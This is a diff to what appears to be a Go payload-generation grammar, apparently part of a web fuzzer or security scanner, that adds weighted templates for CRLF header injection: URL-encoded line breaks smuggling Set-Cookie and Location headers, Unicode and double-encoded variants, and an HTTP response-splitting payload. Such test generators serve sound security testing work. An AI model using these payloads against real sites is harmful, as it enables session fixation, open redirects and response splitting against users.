@@ -665,7 +665,11 @@ func payloadRules() source {
 4~%0d%0aSet-Cookie:%20«a6»=«tok»
 3~%0d%0aLocation:%20https://«chost»/
 2~«slugword»%0d%0aX-«a6»:%20«a3»
-1~%0aSet-Cookie:«a3»=«n»
+2~%0aSet-Cookie:«a3»=«n»
+1~«slugword»%0aSet-cookie:%20«a6»=«tok»
+1~«slugword»%0d%0aSet-cookie:«a6»=«n»
+1~«a3»?%0aset-cookie:+«a6»=«n»
+1~%0aLocation:%20//«chost»
 1~%E5%98%8A%E5%98%8DSet-Cookie:%20«a6»=«a3»
 1~%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a«word»
 1~%250d%250aX-«a3»:%20«n»
